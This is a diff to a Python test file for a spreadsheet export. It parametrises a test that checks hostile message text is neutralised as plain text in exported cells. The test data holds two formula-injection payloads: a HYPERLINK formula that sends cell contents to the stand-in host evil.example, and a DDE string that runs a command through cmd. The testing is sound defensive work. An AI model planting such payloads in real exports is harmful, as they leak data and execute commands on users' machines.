@@ -67,10 +67,15 @@ def test_cell_is_never_a_formula(client: Client, user: User, start: str) -> None
     assert f"'{hostile}" in cells
 
 
-def test_semicolon_begins_no_formula_either(client: Client, user: User) -> None:
+@pytest.mark.parametrize(
+    "hostile",
+    ['hi; =HYPERLINK("http://evil.example/?"&A1)', "hi;\"=cmd|' /C calc'!A0;"],
+)
+def test_semicolon_begins_no_formula_either(
+    client: Client, user: User, hostile: str
+) -> None:
     """It ends a cell where commas write decimals."""
     operation = make_operation(user)
-    hostile = 'hi; =HYPERLINK("http://evil.example/?"&A1)'
     item_of(operation, make_message(account=make_account(user), text=hostile))
     assert table(client, operation)[0][3] == "'" + hostile.replace(";", ",")
 
